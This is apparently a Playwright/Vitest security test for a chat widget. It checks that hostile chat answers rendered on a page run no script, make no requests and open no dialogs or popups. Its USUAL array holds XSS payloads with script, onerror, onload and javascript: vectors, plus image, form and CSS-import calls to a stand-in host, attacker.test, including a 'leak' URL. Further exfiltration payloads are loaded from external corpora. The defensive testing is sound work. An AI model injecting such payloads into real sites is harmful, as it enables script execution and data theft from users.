import { readFile } from 'node:fs/promises'
import { join } from 'node:path'
import type { Page } from 'playwright-core'
import { afterAll, beforeAll, expect, it } from 'vitest'
import { Chat } from './support/chat.ts'
import { showAnswers } from './support/show-answers.ts'
import { serveHostilePage } from './support/hostile-page.ts'
import type { LocalSite } from './support/listen.ts'
import { openStage } from './support/stage.ts'

/** Of the places where answers are cut. */
const SEED = 57
/** What everybody has who has not the suites. */
const USUAL = [
  '<script>alert(1)</script><img src=x onerror=alert(1)>',
  '<svg onload=alert(1)><style>@import url(https://attacker.test/x)</style></svg>',
  '[a](javascript:alert(1)) ![b](https://attacker.test/leak?q=1) ![c](/logout)',
  '<form action=https://attacker.test><button formaction=javascript:alert(1)>x</button></form>',
]

const stage = openStage()
let host: LocalSite
let payloads: readonly string[]

beforeAll(async () => {
  host = await serveHostilePage(stage.site.url)
  payloads = [...USUAL, ...(await suite('xss-payloads')), ...(await suite('exfil-payloads'))]
})

afterAll(() => host?.close())

/** The payloads of a public attack suite; none without `CORPUS_DIR`. */
async function suite(name: string): Promise<readonly string[]> {
  const folder = process.env['CORPUS_DIR']
  if (!folder) return []
  const { cases } = JSON.parse(await readFile(join(folder, `${name}.json`), 'utf8')) as {
    cases: readonly { payload: string }[]
  }
  return cases.map(({ payload }) => payload)
}

const PLACES = [
  { place: 'a page that changes everything', url: () => host.url, isInline: false },
  {
    place: 'a page of the strictest policy',
    url: () => `${stage.site.url}/examples/strict/`,
    isInline: true,
  },
]

it.each(PLACES.flatMap((place) => [false, true].map((html) => ({ ...place, html }))))(
  'on $place, hostile answers run nothing, ask for nothing and leave nothing that could, HTML allowed: $html (seed 57)',
  async ({ url, isInline, html }) => {
    const page = await stage.browser.newPage()
    try {
      const seen = await watch(page)
      await page.goto(url())
      const chat = new Chat(page)
      if (!isInline) await chat.open()
      // Everything that shows answers is there then.
      await chat.ask('Thanks')
      await chat.settle()
      await showAnswers(page, { payloads: ['<b>warm</b>'], html, seed: SEED })
      seen.length = 0
      const faults = await showAnswers(page, { payloads, html, seed: SEED })
      expect(faults.slice(0, 10)).toEqual([])
      expect(seen.slice(0, 10)).toEqual([])
    } finally {
      await page.close()
    }
  },
)

/** Everything that a hostile answer could cause, as it happens. */
async function watch(page: Page): Promise<string[]> {
  const seen: string[] = []
  page.on('request', (request) => void seen.push(`request ${request.url()}`))
  page.on('dialog', (dialog) => {
    seen.push(`dialog ${dialog.message()}`)
    void dialog.dismiss()
  })
  page.on('pageerror', (error) => void seen.push(`error ${error.message}`))
  page.on('popup', () => void seen.push('popup'))
  page.on('console', (message) => {
    // What a policy forbade was tried.
    if (message.type() === 'error') seen.push(`console ${message.text()}`)
  })
  return seen
}
